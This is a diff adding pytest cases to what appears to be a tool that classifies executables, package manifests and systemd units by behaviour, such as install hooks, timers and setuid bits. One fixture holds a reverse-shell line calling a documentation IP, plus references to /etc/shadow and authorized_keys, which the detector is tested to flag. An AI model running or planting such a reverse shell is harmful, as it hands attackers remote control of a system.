@@ -113,3 +113,33 @@ def test_what_a_compiler_makes(tmp_path):
     source.write_text("#include <sys/socket.h>\nint main(void) {return connect(socket(2, 1, 0), 0, 0);}\n")
     subprocess.run(["gcc", "-o", tmp_path / "a", source], check=True, capture_output=True)
     assert names("program", (tmp_path / "a").read_bytes()) == {"net/connect"}
+
+
+@pytest.mark.parametrize(
+    ("kind", "content", "name"),
+    [
+        ("manifest", b'{"scripts": {"preinstall": "node a.js"}}', "start/install-script"),
+        ("manifest", b'{"scripts": {"uninstall": "node a.js", "install-all": "x"}}', None),
+        ("manifest", b'{"install": {"a": 1}}', None),
+        ("unit", b"[Service]\nExecStart=/opt/a\n", "start/service"),
+        ("unit", b"[Service]\n# ExecStart=/opt/a\n", None),
+        ("unit", b"[Timer]\nOnUnitActiveSec = 1h\n", "start/by-time-or-path"),
+        ("unit", b"[Path]\nPathExistsGlob=/tmp/*\n", "start/by-time-or-path"),
+        ("unit", b"[Socket]\nListenStream=80\n", "start/by-connection"),
+    ],
+)
+def test_what_is_stated_to_be_started(kind, content, name):
+    assert names(kind, content) == ({name} if name else set())
+
+
+def test_texts_that_are_no_code_have_no_chain():
+    text = b'{"scripts": {"go": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}}\n/etc/shadow authorized_keys\n'
+    assert names("shell", text)
+    assert ids("shell", text)
+    assert names("manifest", text) == names("unit", text) == ids("manifest", text) == ids("unit", text) == set()
+
+
+@pytest.mark.parametrize(("mode", "expected"), [(0o755, False), (0o4755, True), (0o2711, True), (0o1755, False)])
+def test_the_rights_of_another_user(mode, expected):
+    found, _ = profile(examined("program", hardened(("puts",)), mode=mode))
+    assert ("privilege/set-id" in found) is expected
